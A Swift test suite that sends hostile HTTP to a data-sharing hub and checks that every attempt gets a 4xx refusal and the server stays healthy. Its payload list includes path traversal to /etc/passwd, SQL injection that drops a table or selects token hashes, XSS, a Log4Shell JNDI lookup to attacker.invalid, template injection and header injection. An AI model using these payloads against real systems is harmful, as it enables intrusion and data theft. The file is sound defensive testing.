import AsyncHTTPClient
import ConcordCore
import ConcordHubServer
import ConcordHubStore
import ConcordTestSupport
import Foundation
import Hummingbird
import NIOCore
import Testing

/// Hostile HTTP against a real hub: oversized headers and bodies, invalid JSON, wrong content
/// types, and path traversal and injection strings in every id, name and parameter. Each must be
/// refused with its documented 4xx problem (never a 5xx, never the hostile text taken as a path
/// or SQL), and the hub must keep serving afterwards.
@Suite("Hostile HTTP against PostgreSQL", .enabled(if: databaseAvailable))
struct HostileHTTPTests {
    /// Strings an attacker puts in ids, names and parameters.
    static let hostileStrings = [
        "../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd",
        "'; DROP TABLE agencies; --", "\" OR \"1\"=\"1", "1 OR 1=1", "x' UNION SELECT token_sha256 FROM users --",
        "<script>alert(1)</script>", "${jndi:ldap://attacker.invalid/a}", "{{7*7}}", "%00", "a%00b", "%ff%fe", "%C0%AE%C0%AE%2F",
        "%0d%0aSet-Cookie:%20x=1", String(repeating: "A", count: 4000), "ｅｔｃ／ｐａｓｓｗｄ", "%E2%80%AE", "-1", "0", "99999999999999999999999",
    ]

    @Test("every path id and query parameter refuses hostile strings with a 4xx problem and the hub keeps serving")
    func hostileIdentifiers() async throws {
        try await TestHub.with { hub in
            let analyst = try await hub.person("n-carrow", .analyst)
            let officer = try await hub.person("i-thackeray", .igOfficer)
            let admin = try await hub.person("a-admin", .admin)
            let before = try await hub.store.agencies().count
            var failures: [String] = []
            for hostile in Self.hostileStrings {
                let targets: [(HTTPRequest.Method, String, String?)] = [
                    (.get, "/v1/uploads/\(hostile)", nil), (.patch, "/v1/uploads/\(hostile)", nil), (.post, "/v1/uploads/\(hostile)/complete", nil),
                    (.get, "/v1/requests/\(hostile)", analyst), (.post, "/v1/requests/\(hostile)/cancel", analyst),
                    (.post, "/v1/requests/\(hostile)/approve", officer), (.post, "/v1/requests/\(hostile)/deny", officer),
                    (.get, "/v1/requests/\(hostile)/linkage-report", analyst), (.post, "/v1/requests/\(hostile)/links", analyst),
                    (.get, "/v1/downloads/\(hostile)", analyst), (.post, "/v1/agreements/\(hostile)/suspend", admin),
                    (.post, "/v1/agreements/\(hostile)/terminate", officer), (.get, "/v1/audit?limit=\(hostile)", officer),
                    (.get, "/v1/audit?actor=\(hostile)", officer), (.get, "/v1/uploads?limit=\(hostile)", admin),
                    (.get, "/v1/audit/proofs/inclusion?seq=\(hostile)", officer), (.get, "/v1/audit/proofs/consistency?first=\(hostile)", officer),
                    (.get, "/ig/\(hostile)", nil), (.get, "/static/\(hostile)", nil),
                ]
                for (method, target, token) in targets {
                    let body = method == .get ? [] : Array(#"{"reason": "hostile"}"#.utf8)
                    let response: TestResponse
                    if let token {
                        response = try await hub.send(method, target, body: body, headers: [("Authorization", "Bearer \(token)"), ("Content-Type", "application/json")])
                    } else if target.hasPrefix("/v1/uploads") {
                        response = try await hub.signed(method, target, body: body, headers: [("Upload-Offset", "0")])
                    } else {
                        response = try await hub.send(method, target)
                    }
                    // A filter is text to match, not a name to find: it may match nothing, and must.
                    let matchedNothing = target.hasPrefix("/v1/audit?actor=") && response.status == 200 && response.text == #"{"entries":[]}"#
                    if !(400..<500).contains(response.status) && !matchedNothing {
                        failures.append("\(method) \(target.prefix(120)): \(response.status) \(response.text.prefix(200))")
                    }
                }
            }
            #expect(failures.isEmpty, "\(failures.joined(separator: "\n"))")
            #expect(try await hub.store.agencies().count == before)
            #expect(try await hub.send(.get, "/healthz").status == 200)
        }
    }

    @Test("hostile names in request bodies and agency headers are refused, never stored or run")
    func hostileNames() async throws {
        try await TestHub.with { hub in
            let analyst = try await hub.person("n-carrow", .analyst)
            var failures: [String] = []
            for hostile in Self.hostileStrings {
                for (key, value) in [("agreement", hostile), ("purpose", hostile), ("level", hostile)] as [(String, Any)] {
                    var json: [String: Any] = ["agreement": TestHub.agreement, "purpose": "EH-DA", "datasets": ["police_da_incidents"], "fields": ["GENDER"],
                                               "level": "aggregate", "justification": "tests"]
                    json[key] = value
                    let response = try await hub.call(.post, "/v1/requests", token: analyst, json: json)
                    if !(400..<500).contains(response.status) { failures.append("\(key)=\(hostile.prefix(40)): \(response.status) \(response.text.prefix(200))") }
                }
                for (key, value) in [("datasets", [hostile]), ("fields", [hostile])] as [(String, Any)] {
                    var json: [String: Any] = ["agreement": TestHub.agreement, "purpose": "EH-DA", "datasets": ["police_da_incidents"], "fields": ["GENDER"],
                                               "level": "aggregate", "justification": "tests"]
                    json[key] = value
                    let response = try await hub.call(.post, "/v1/requests", token: analyst, json: json)
                    if !(400..<500).contains(response.status) { failures.append("\(key)=[\(hostile.prefix(40))]: \(response.status) \(response.text.prefix(200))") }
                }
                // A hostile agency id or key id in the signed headers.
                for header in ["Concord-Agency", "Concord-Key-Id", "Concord-Nonce", "Concord-Timestamp", "Concord-Content-SHA256", "Concord-Signature"] {
                    let signed = try await hub.signed(.get, "/v1/uploads/6f1c1f7e-0000-4000-8000-000000000000",
                                                      headers: [(header, hostile.removingPercentEncoding ?? hostile)].filter { !$0.1.unicodeScalars.contains { $0.properties.generalCategory == .control } })
                    if !(400..<500).contains(signed.status) { failures.append("\(header): \(hostile.prefix(40)): \(signed.status) \(signed.text.prefix(200))") }
                }
            }
            #expect(failures.isEmpty, "\(failures.joined(separator: "\n"))")
            let listed = try await hub.call(.get, "/v1/requests", token: analyst)
            #expect(listed.status == 200)
            // Refused requests are kept with their reasons; none of them may have been accepted.
            #expect(!listed.text.contains("\"state\":\"pending\""), "\(listed.text.prefix(300))")
        }
    }

    /// Bodies that are not the JSON object the endpoint takes.
    static let invalidJSONBodies: [(String, [UInt8])] = [
        ("empty", []), ("not JSON", Array("agreement=x".utf8)), ("truncated", Array(#"{"agreement": "#.utf8)), ("an array", Array("[]".utf8)),
        ("null", Array("null".utf8)), ("a string", Array(#""x""#.utf8)), ("wrong types", Array(#"{"agreement": 1, "datasets": "x", "fields": {}}"#.utf8)),
        ("nested 10,000 deep", Array((String(repeating: "[", count: 10_000) + String(repeating: "]", count: 10_000)).utf8)),
        ("invalid UTF-8", [0x7B, 0x22, 0xFF, 0xFE, 0x22, 0x3A, 0x31, 0x7D]), ("a NUL byte", Array("{\"agreement\":\"a\u{0}b\"}".utf8)),
        ("duplicate keys", Array(#"{"agreement": "a", "agreement": "b"}"#.utf8)), ("a huge number", Array(#"{"agreement": 1e999999}"#.utf8)),
    ]

    @Test("invalid JSON, wrong content types and oversized bodies get their 4xx problem")
    func invalidBodies() async throws {
        try await TestHub.with { hub in
            let analyst = try await hub.person("n-carrow", .analyst)
            let officer = try await hub.person("i-thackeray", .igOfficer)
            var failures: [String] = []
            for (name, body) in Self.invalidJSONBodies {
                for (target, token) in [("/v1/requests", analyst), ("/v1/agreements/\(TestHub.agreement)/suspend", officer)] {
                    let response = try await hub.send(.post, target, body: body, headers: [("Authorization", "Bearer \(token)"), ("Content-Type", "application/json")])
                    // A decision's only key is an optional reason, so a JSON object without one is read as giving none.
                    let refused = (response.status, response.problemCode ?? "")
                    if refused != (400, "request.invalid") && !(target != "/v1/requests" && refused == (409, "agreement.state")) {
                        failures.append("\(name) to \(target): \(response.status) \(response.text.prefix(200))")
                    }
                }
            }
            // A JSON endpoint sent anything but JSON.
            let good = Array(try JSONSerialization.data(withJSONObject: ["agreement": TestHub.agreement, "purpose": "EH-DA", "datasets": ["police_da_incidents"],
                                                                          "fields": ["GENDER"], "level": "aggregate", "justification": "tests"]))
            for type in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/jsonx"] {
                let response = try await hub.send(.post, "/v1/requests", body: good, headers: [("Authorization", "Bearer \(analyst)"), ("Content-Type", type)])
                if response.status != 415 || response.problemCode != "request.content-type" { failures.append("\(type): \(response.status) \(response.text.prefix(200))") }
            }
            // Over the limit for a JSON body (64 KiB) and for an envelope's prefix.
            let big = Array(#"{"justification": ""#.utf8) + [UInt8](repeating: UInt8(ascii: "a"), count: 1 << 20) + Array(#""}"#.utf8)
            let tooBig = try await hub.send(.post, "/v1/requests", body: big, headers: [("Authorization", "Bearer \(analyst)"), ("Content-Type", "application/json")])
            if tooBig.status != 413 || tooBig.problemCode != "request.too-large" { failures.append("1 MiB JSON body: \(tooBig.status) \(tooBig.text.prefix(200))") }
            let prefix = try await hub.signed(.post, "/v1/uploads", body: [UInt8](repeating: 0x43, count: 2 << 20), headers: [("Upload-Length", String(4 << 20))])
            if prefix.status != 413 || prefix.problemCode != "request.too-large" { failures.append("2 MiB envelope prefix: \(prefix.status) \(prefix.text.prefix(200))") }
            for length in ["-1", "0", "1e9", "99999999999999999999999", "0x10", " 5000", "5000 ", ""] {
                let response = try await hub.signed(.post, "/v1/uploads", body: Array("CONCORD".utf8), headers: [("Upload-Length", length)])
                if response.status != 400 || response.problemCode != "upload.invalid-envelope" { failures.append("Upload-Length '\(length)': \(response.status) \(response.text.prefix(200))") }
            }
            let absurd = try await hub.signed(.post, "/v1/uploads", body: Array("CONCORD".utf8), headers: [("Upload-Length", String(Int.max))])
            if absurd.status != 413 || absurd.problemCode != "upload.too-large" { failures.append("Upload-Length Int.max: \(absurd.status) \(absurd.text.prefix(200))") }
            #expect(failures.isEmpty, "\(failures.joined(separator: "\n"))")
            #expect(try await hub.send(.get, "/healthz").status == 200)
        }
    }

    @Test("oversized and numerous headers are refused without harming the hub")
    func oversizedHeaders() async throws {
        try await TestHub.with { hub in
            let officer = try await hub.person("i-thackeray", .igOfficer)
            for headers in [
                [("X-Big", String(repeating: "h", count: 1 << 20))],
                (0..<10_000).map { ("X-Many-\($0)", "v") },
                [("Authorization", "Bearer " + String(repeating: "t", count: 200_000))],
            ] {
                do {
                    let response = try await hub.send(.get, "/v1/whoami", headers: headers + [("Authorization", "Bearer \(officer)")])
                    #expect((400..<500).contains(response.status), "\(response.status) \(response.text.prefix(200))")
                } catch {
                    // Closing the connection on a header section past the parser's limit is also a refusal.
                }
                #expect(try await hub.send(.get, "/healthz").status == 200)
            }
        }
    }
}
